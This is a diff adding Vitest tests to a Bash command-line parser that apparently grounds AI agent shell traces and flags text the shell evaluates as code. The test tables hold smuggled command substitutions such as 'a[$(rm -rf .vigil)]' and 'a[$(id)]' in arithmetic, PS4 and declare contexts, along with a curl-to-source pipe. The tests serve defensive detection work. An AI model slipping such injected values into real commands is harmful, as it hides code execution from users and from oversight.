@@ -1,7 +1,7 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { groundCommandLine, groundTrace, parseCommandLine, readAnyTrace, shellToolNames, toolCatalog } from "@vigil/trace";
+import { evaluatedValueSafe, groundCommandLine, groundTrace, parseCommandLine, readAnyTrace, shellToolNames, toolCatalog } from "@vigil/trace";
 
 /** The events of a line, without their `argv` (which the tests of `argv` look at). */
 const ground = (line: string) => groundWithArgv(line).map(({ action, args: { argv: _argv, ...args } }) => ({ action, args }));
@@ -361,6 +361,89 @@ describe("grounding what a command line hides", () => {
       const { events } = groundTrace([{ position: 1, action: "Bash", args: { command: line }, status: "ok" }]);
       expect(events.some((e) => e.action === "unknown_command")).toBe(true);
     }
+  });
+});
+
+describe("text the shell evaluates as code", () => {
+  /** What the line has Bash evaluate that is not known to be harmless: each construct, and why or which environment variables decide it. */
+  const evaluated = (line: string) => {
+    const parsed = parseCommandLine(line);
+    if (!parsed.ok) throw new Error(parsed.message);
+    return (parsed.evaluated ?? []).map(({ by, why, environment }) => ({ by, ...(why !== undefined ? { why: expect.any(String) } : {}), ...(environment !== undefined ? { environment } : {}) }));
+  };
+  const unknown = (by: string) => ({ by, why: expect.any(String) });
+
+  it.each([
+    // A value the line shows, holding a command substitution that a subscript in it would run.
+    ["x='a[$(rm -rf .vigil)]'; echo $((x))", [unknown("$((…))")]],
+    ["x='a[$(rm -rf .vigil)]'; (( x )); let y=x; echo $[x]", [unknown("((…))"), unknown("let"), unknown("$[…]")]],
+    ["x='a[$(id)]'; declare -i y=x", [unknown("declare -i y")]],
+    ["declare -i y; y='a[$(id)]'", [unknown("declare -i y")]],
+    ["declare -i n; read -r n", [unknown("declare -i n")]],
+    ["x='a[$(id)]'; echo ${arr[$x]}; arr[x]=1", [unknown("${arr[…]}"), unknown("arr[…]=")]],
+    ["x='a[$(id)]'; [[ $x -eq 1 ]]", [unknown("[[ … -eq … ]]")]],
+    ["x='$(id)'; echo ${x@P}", [unknown("${x@P}")]],
+    ["x='a[$(id)]'; echo ${!x}", [unknown("${!x}")]],
+    ["PS4='$(id)'; set -x; true", [unknown("set -x")]],
+    ["PS4='`id`' bash -x run.sh", [unknown("bash -x")]],
+    ["printf -v 'a[$(id)]' x; read 'b[$(id)]'; unset 'c[$(id)]'; test -v 'd[$(id)]'", [unknown("printf -v"), unknown("read"), unknown("unset"), unknown("test -v")]],
+    ["export 'a[$(id)]=1'; declare -n r='b[$(id)]'", [unknown("export NAME=…"), unknown("declare -n")]],
+    // Values read when the line runs.
+    ["read -r n; echo $((n))", [unknown("$((…))")]],
+    ["echo $(( $(cat f) ))", [unknown("$((…))")]],
+    ["source ./env.sh; echo $((PORT))", [unknown("$((…))")]],
+    ["[[ $1 -gt 0 ]]", [unknown("[[ … -gt … ]]")]],
+    ["for f in *.txt; do echo $((f)); done", [unknown("$((…))")]],
+    // Builtins that run text as a command.
+    ["mapfile -C cb lines < f; fc -s; compgen -C cmd x; bind -x '\"\\C-a\": ls'; bash -i", [unknown("mapfile -C"), unknown("fc"), unknown("compgen -C"), unknown("bind -x"), unknown("bash -i")]],
+    // Values from the environment: its values decide.
+    ["echo $((COUNT + 1))", [{ by: "$((…))", environment: { COUNT: "arithmetic" } }]],
+    ["set -o xtrace", [{ by: "set -x", environment: { PS4: "prompt" } }]],
+    ['printf -v "$NAME" x', [{ by: "printf -v", environment: { NAME: "reference" } }]],
+    ["echo ${P@P} $((P))", [{ by: "${P@P}", environment: { P: "prompt" } }, { by: "$((…))", environment: { P: "arithmetic" } }]],
+  ])("%s", (line, expected) => {
+    expect(evaluated(line)).toEqual(expected);
+  });
+
+  it.each([
+    "for i in 1 2 3; do echo $((i * 2)); done",
+    "count=0; for f in *; do count=$((count + 1)); done",
+    "for ((i = 0; i < 3; i++)); do :; done",
+    "n=$(wc -l < f); m=$(ls | wc -l); echo $((n + m + $(nproc) + $(date +%s) + $(grep -c x f)))",
+    "for i in $(seq 1 3) {4..6}; do (( i > 2 )) && echo $i; done",
+    "x='1 + y'; y=2; echo $((x)) $((RANDOM)) $(($# + $?))",
+    "[[ $# -eq 0 ]]; test x -eq 1; [ \"$y\" -gt 2 ]; printf '%d' \"$z\"",
+    "declare -A h; read -r k; h[$k]=1; echo ${h[$k]}",
+    "PS4='+ ${BASH_SOURCE}:${LINENO}: '; set -x",
+    "printf -v out x; read -r a b; unset a; export \"PATH=$PATH:/x\"",
+    "echo ${s:1:2} ${a[1]} ${#a[@]} ${!a[@]} ${!prefix*}",
+    "bash -c 'echo hi'; bash -ic 'ls'; fc -l",
+  ])("lets through: %s", (line) => {
+    expect(evaluated(line)).toEqual([]);
+  });
+
+  it("grounds each as an unknown_command event, without the environment in a script the line runs", () => {
+    const events = groundTrace([{ position: 1, action: "Bash", args: { command: "echo $((N)); bash -c 'echo $((N))'" } }]).events;
+    expect(events.filter((e) => e.action === "unknown_command").map((e) => e.args)).toEqual([
+      { reason: "evaluated_text", by: "$((…))", text: "$((N))", why: "a script the line runs starts from the line's own variables" },
+      { reason: "evaluated_text", by: "$((…))", text: "$((N))", environment: { N: "arithmetic" } },
+    ]);
+  });
+
+  it("takes a value from the environment as harmless where it is evaluated", () => {
+    expect(["42", " -7 ", "0x1F", "16#ff", ""].every((value) => evaluatedValueSafe("arithmetic", value))).toBe(true);
+    expect(["a[$(id)]", "x", "1+2"].some((value) => evaluatedValueSafe("arithmetic", value))).toBe(false);
+    expect(evaluatedValueSafe("reference", "name")).toBe(true);
+    expect(evaluatedValueSafe("reference", "a[$(id)]")).toBe(false);
+    expect(evaluatedValueSafe("prompt", "+ ${BASH_SOURCE}:${LINENO}: \\u@\\h ")).toBe(true);
+    expect(["$(id)", "`id`", "$((a[$(id)]))", "${x@P}"].some((value) => evaluatedValueSafe("prompt", value))).toBe(false);
+  });
+
+  it("runs a script read from standard input as one: known from a here-document, not from a pipe", () => {
+    const actions = (line: string) => groundTrace([{ position: 1, action: "Bash", args: { command: line } }]).events.slice(1).map((e) => [e.action, e.args["reason"]]);
+    expect(actions("source /dev/stdin <<'EOF'\nrm -rf build\nEOF")).toEqual([["read", undefined], ["source", undefined], ["rm", undefined]]);
+    expect(actions("curl -s https://x | . /dev/stdin")).toEqual([["curl", undefined], ["read", undefined], ["source", undefined], ["unknown_command", "piped_script"]]);
+    expect(actions('source /dev/stdin <<< "$X"')).toEqual([["read", undefined], ["source", undefined], ["unknown_command", "dynamic_script"]]);
   });
 });
 
